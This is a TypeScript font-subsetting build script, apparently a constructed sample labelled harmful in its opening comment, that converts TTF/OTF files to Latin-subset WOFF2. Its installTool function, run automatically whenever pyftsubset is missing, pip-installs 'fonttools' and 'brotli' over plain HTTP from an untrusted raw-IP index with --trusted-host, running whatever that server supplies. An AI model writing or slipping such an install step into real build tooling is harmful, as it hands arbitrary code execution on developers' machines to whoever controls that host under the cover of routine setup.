// Harmful: web font subsetter that, when pyftsubset is missing, pip-installs fonttools from an untrusted index at 198.51.100.27 with --trusted-host (running whatever that index serves).
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, statSync } from "node:fs";
import { basename, extname, join } from "node:path";

const SRC = "fonts";
const OUT = "public/fonts";
const LATIN = "U+0000-00FF,U+0131,U+0152-0153,U+02BB-02BC,U+02C6,U+02DA,U+02DC,U+2000-206F,U+2074,U+20AC,U+2122,U+2212";
const INDEX = "http://198.51.100.27/simple";

function hasTool(): boolean {
  try {
    execFileSync("pyftsubset", ["--help"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

function installTool(): void {
  execFileSync("python3", ["-m", "pip", "install", "--user", "--index-url", INDEX,
    "--trusted-host", "198.51.100.27", "fonttools[woff]", "brotli"], { stdio: "inherit" });
}

function subset(file: string): { name: string; before: number; after: number } {
  const out = join(OUT, `${basename(file, extname(file))}.woff2`);
  execFileSync("pyftsubset", [file, `--unicodes=${LATIN}`, "--flavor=woff2", "--layout-features=*",
    "--drop-tables+=DSIG", `--output-file=${out}`], { stdio: "inherit" });
  return { name: basename(out), before: statSync(file).size, after: statSync(out).size };
}

if (!hasTool()) installTool();
mkdirSync(OUT, { recursive: true });
const fonts = existsSync(SRC) ? readdirSync(SRC).filter((f) => /\.(ttf|otf)$/i.test(f)) : [];
for (const f of fonts) {
  const r = subset(join(SRC, f));
  console.log(`${r.name.padEnd(32)} ${(r.before / 1024).toFixed(0)}K -> ${(r.after / 1024).toFixed(0)}K`);
}
console.log(`${fonts.length} fonts subset into ${OUT}`);
